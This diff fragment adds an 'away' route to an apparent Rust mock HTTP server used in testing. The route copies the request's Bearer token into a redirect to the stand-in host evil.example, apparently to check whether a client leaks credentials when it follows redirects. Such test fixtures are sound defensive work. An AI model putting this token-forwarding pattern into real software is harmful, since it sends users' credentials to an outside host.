@@ -207,6 +207,14 @@ async fn serve(mut stream: TcpStream, seen: Arc<Mutex<Vec<String>>>) {
                  content-length: 0\r\n\r\n"
             )
         }
+        "away" => {
+            let token = request.split("Bearer ").nth(1).unwrap_or_default();
+            let token = token.lines().next().unwrap_or_default();
+            format!(
+                "HTTP/1.1 302 Found\r\nconnection: close\r\n\
+                 location: http://evil.example/{token}\r\ncontent-length: 0\r\n\r\n"
+            )
+        }
         "status" => {
             let status = target.rsplit('/').next().unwrap_or("500");
             format!("HTTP/1.1 {status} Thing\r\nconnection: close\r\ncontent-length: 0\r\n\r\n")
